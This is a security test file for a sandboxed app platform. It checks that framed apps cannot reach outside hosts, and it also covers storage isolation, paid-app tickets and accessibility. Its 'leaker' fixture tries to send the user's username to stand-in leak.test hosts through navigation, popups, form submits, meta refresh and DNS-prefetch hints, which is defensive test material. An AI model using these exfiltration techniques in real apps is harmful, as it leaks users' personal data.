// one store: what the browser may reach from an app's frame; nothing in it depends on the store
// An app cannot make the browser connect to a host it names, on a default
// install (no APPS_HOST, nothing set): the app's document is served on the
// instance's sandbox port, an origin of its own, so every way it has to
// navigate its frame (or anything else) is stopped before the browser looks
// the name up or connects; a listener on loopback, where those names lead,
// sees nothing. The same browser does reach it when the page itself goes
// there, so silence means the app was stopped, not that nothing could arrive.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { mkdirSync } from "node:fs";
import net from "node:net";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { startHearth, type Hearth } from "../harness.ts";
import { everyLook, launchChromium, chromiumPresent } from "../browser.ts";
import { CHROMIUM } from "../prepare.ts";

const present = chromiumPresent;
if (!present) console.log(`skipping the app navigation test: ${CHROMIUM} is missing (bun test/prepare.ts installs it as root)`);

let h: Hearth;
let browser: Browser;
let listener: net.Server;
const seen: string[] = [];
let port = 0;

beforeAll(async () => {
  if (!present) return;
  listener = net.createServer((socket) => {
    seen.push(`connection from ${socket.remotePort}`);
    socket.on("data", (d) => seen.push(d.toString("latin1").split("\r\n")[0]));
    socket.on("error", () => {});
    socket.setTimeout(2000, () => socket.destroy());
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", () => resolve()));
  port = (listener.address() as net.AddressInfo).port;
  h = await startHearth();
  // Every name under leak.test reaches the listener, as an attacker's own DNS would lead it to their server.
  browser = await launchChromium([`--host-resolver-rules=MAP *.leak.test 127.0.0.1:${port}`]);
});

afterAll(async () => {
  await browser?.close();
  await h?.stop();
  listener?.close();
});

/** The app: it learns the person's name through the bridge, then tries every way out with it. */
const leaker = (p: number) => `<!doctype html><html><head><title>Leaker</title>
<link rel="dns-prefetch" href="//prefetched.leak.test">
<link rel="preconnect" href="http://preconnected.leak.test/">
<link rel="prefetch" href="http://prefetched-page.leak.test/">
</head><body><pre id="out">running</pre>
<a id="self" href="http://anchor.leak.test/">self</a>
<a id="blank" href="http://blank.leak.test/" target="_blank">blank</a>
<a id="top" href="http://top.leak.test/" target="_top">top</a>
<form id="form" action="http://form.leak.test/" method="get"><input name="q" value="x"></form>
<script>
const tried = [];
let navigations = 0, stopped = 0;
navigation.addEventListener("navigate", (e) => { navigations++; if (e.defaultPrevented) stopped++; });
const attempt = (name, fn) => { try { const r = fn(); if (r && r.finished) r.finished.catch(() => {}); if (r && r.committed) r.committed.catch(() => {}); tried.push(name); } catch (e) { tried.push(name + " threw " + e.name); } };
(async () => {
  const who = await hearth.user();
  const name = who.username;
  // Each of these navigates this frame (the ones the page can intercept, once each).
  attempt("location", () => { location = "http://" + name + ".leak.test/"; });
  attempt("assign", () => location.assign("http://127.0.0.1:${p}/assign?" + name));
  attempt("replace", () => location.replace("http://127.0.0.1:${p}/replace?" + name));
  attempt("href", () => { location.href = "http://href-" + name + ".leak.test/"; });
  attempt("port", () => { location.host = "127.0.0.1:${p}"; });
  attempt("navigate", () => navigation.navigate("http://navigate-" + name + ".leak.test/"));
  attempt("open self", () => open("http://open-self.leak.test/", "_self"));
  attempt("anchor", () => document.getElementById("self").click());
  const meta = document.createElement("meta");
  meta.httpEquiv = "refresh";
  meta.content = "0;url=http://refresh-" + name + ".leak.test/";
  document.head.append(meta);
  // These would leave the frame: the sandbox refuses them outright.
  attempt("open", () => open("http://popup.leak.test/"));
  attempt("blank", () => document.getElementById("blank").click());
  attempt("target top", () => document.getElementById("top").click());
  attempt("top", () => { top.location = "http://top-location.leak.test/"; });
  attempt("form", () => document.getElementById("form").submit());
  // The refresh fires on a timer: done once it too has come and been stopped.
  const done = () => navigations >= 9 ? (document.getElementById("out").textContent = JSON.stringify({ tried, navigations, stopped, origin: self.origin })) : setTimeout(done, 20);
  done();
})();
</script></body></html>`;

test.skipIf(!present)(
  "an app that navigates its frame, opens windows, submits forms or hints at hosts makes the browser connect nowhere",
  async () => {
    const token = await h.token("alice");
    const made = await h.call("apps/create", { name: "Leaker", html: leaker(port) }, { token });
    expect(made.status).toBe(200);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${h.url}/apps/leaker`);
    // The frame is on the sandbox port, not the instance's origin, and still sandboxed.
    expect(await page.locator("#app-frame").getAttribute("sandbox")).toBe("allow-scripts allow-same-origin");
    const out = page.frameLocator("#app-frame").locator("#out");
    await out.filter({ hasText: "navigations" }).waitFor();
    const report = JSON.parse((await out.textContent())!);
    expect(report.origin).toBe(h.sandboxUrl);
    expect(report.navigations).toBe(9);
    expect(report.stopped).toBe(9);
    expect(page.frames().map((f) => f.url())).toEqual([`${h.url}/apps/leaker`, `${h.sandboxUrl}/apps/leaker/frame`]);
    expect(context.pages()).toHaveLength(1);
    expect(seen).toEqual([]);

    // The listener does hear this browser when the page itself goes there.
    await page.goto(`http://control.leak.test/`).catch(() => {});
    while (!seen.some((l) => l.startsWith("GET /"))) await Bun.sleep(20);
    expect(seen.some((l) => l.startsWith("connection"))).toBe(true);
    await context.close();
  },
);

test.skipIf(!present)(
  "an app keeps its store through the host page, and the sandbox port serves nothing but app documents",
  async () => {
    await h.token("bob");
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${h.url}/apps/counter`);
    const app = page.frameLocator("#app-frame");
    await page.getByRole("dialog").filter({ hasText: "keep its data in this browser" }).waitFor();
    await page.getByRole("button", { name: "Allow", exact: true }).click();
    await app.locator("#count").filter({ hasText: /^0$/ }).waitFor();
    await app.getByRole("button", { name: "Plus one" }).click();
    await app.locator("#count").filter({ hasText: /^1$/ }).waitFor();
    // The store is the host page's, on the instance's origin; the app's origin holds none.
    expect(await page.evaluate(() => localStorage.getItem("hearth.apps.counter.count"))).toBe("1");

    // The app's origin holds none of the instance's storage either.
    const frameOrigin = page.frames()[1];
    expect(await frameOrigin.evaluate(() => self.origin)).toBe(h.sandboxUrl!);
    expect(await frameOrigin.evaluate(() => typeof localStorage)).toBe("undefined");
    for (const path of ["/", "/apps", "/apps/counter", "/apps/run/x", "/session", "/status", "/api/v1/apps/search", "/mcp"]) {
      const res = await fetch(`${h.sandboxUrl}${path}`);
      expect({ path, status: res.status }).toEqual({ path, status: 404 });
    }
    for (const path of ["/apps/counter/open", "/apps/counter/store", "/api/v1/notes/add"]) {
      const res = await fetch(`${h.sandboxUrl}${path}`, { method: "POST", headers: { "content-type": "application/json" }, body: "{}" });
      expect({ path, status: res.status }).toEqual({ path, status: 405 });
    }
    const frame = await fetch(`${h.sandboxUrl}/apps/counter/frame`);
    expect(frame.status).toBe(200);
    expect(frame.headers.get("content-security-policy")).toContain("sandbox allow-scripts allow-same-origin;");
    expect(frame.headers.get("x-dns-prefetch-control")).toBe("off");
    // On the instance's own name the frame stays an opaque sandbox.
    const own = await fetch(`${h.url}/apps/counter/frame`);
    expect(own.headers.get("content-security-policy")).toContain("sandbox allow-scripts");
    await context.close();
  },
);

test.skipIf(!present)(
  "on the sandbox port a priced app's frame is served against its paid open's ticket alone, charged once per open",
  async () => {
    const owner = await h.token("carol");
    const payer = await h.token("dave");
    const as = (token: string) => ({ authorization: `Bearer ${token}`, "content-type": "application/json" });
    expect((await h.call("apps/create", { name: "Dear", html: "<!doctype html><p>paid for</p>", price: 5 }, { token: owner })).status).toBe(200);
    await h.grant("dave", 12);
    const balance = async (token: string) => (await h.call("credits/balance", {}, { token })).body.result.balance;
    const before = await balance(owner);
    const frameAt = (base: string, slug: string, ticket: string, headers: Record<string, string> = {}) =>
      fetch(`${base}/apps/${slug}/frame${ticket ? `?ticket=${encodeURIComponent(ticket)}` : ""}`, { headers });
    const frame = (ticket: string) => frameAt(h.sandboxUrl!, "dear", ticket);
    expect((await frame("")).status).toBe(402);
    expect((await frame("made-up")).status).toBe(402);
    // The sandbox port reads no token and no cookie: the owner, who opens it free on the instance, is no one there.
    expect((await frameAt(h.url, "dear", "", { authorization: `Bearer ${owner}` })).status).toBe(200);
    expect((await frameAt(h.sandboxUrl!, "dear", "", { authorization: `Bearer ${owner}` })).status).toBe(402);
    // Opening is the instance's, on its own port; the sandbox port does not take it.
    expect((await fetch(`${h.sandboxUrl}/apps/dear/open`, { method: "POST", headers: as(payer), body: "{}" })).status).toBe(405);
    expect(await balance(payer)).toBe(12);
    const opened = (await (await fetch(`${h.url}/apps/dear/open`, { method: "POST", headers: as(payer), body: "{}" })).json()) as any;
    expect(opened.result).toMatchObject({ charged: 5, balance: 7 });
    expect((await frame(opened.result.ticket)).status).toBe(200);
    expect((await frame(opened.result.ticket)).status).toBe(200);
    expect(await balance(payer)).toBe(7);
    expect(await balance(owner)).toBe(before + 5);
    // The ticket is for that app only.
    expect((await frameAt(h.sandboxUrl!, "counter", opened.result.ticket)).status).toBe(200);
    expect((await h.call("apps/create", { name: "Dearer", html: "<!doctype html><p>also paid</p>", price: 5 }, { token: owner })).status).toBe(200);
    expect((await frameAt(h.sandboxUrl!, "dearer", opened.result.ticket)).status).toBe(402);
    expect(await balance(payer)).toBe(7);
  },
);

test.skipIf(!present)(
  "the host page, its app framed from the sandbox port, and /status pass axe in light and dark at both widths",
  async () => {
    const artifacts = join(import.meta.dir, "..", "artifacts");
    mkdirSync(artifacts, { recursive: true });
    // The audit's own script is injected, so this context alone sets the pages' script policy aside.
    const context = await browser.newContext({ bypassCSP: true });
    const found = await everyLook(
      await context.newPage(),
      h.url,
      [
        {
          name: "sandbox-app",
          path: "/apps/counter",
          ready: async (page) => {
            await page.getByRole("dialog").filter({ hasText: "keep its data in this browser" }).waitFor();
            await page.getByRole("button", { name: "Allow", exact: true }).click();
            await page.frameLocator("#app-frame").locator("#count").filter({ hasText: /^\d+$/ }).waitFor();
          },
        },
        { name: "sandbox-status", path: "/status", fullPage: true },
      ],
      { shots: artifacts },
    );
    await context.close();
    expect(found).toEqual({});
  },
);
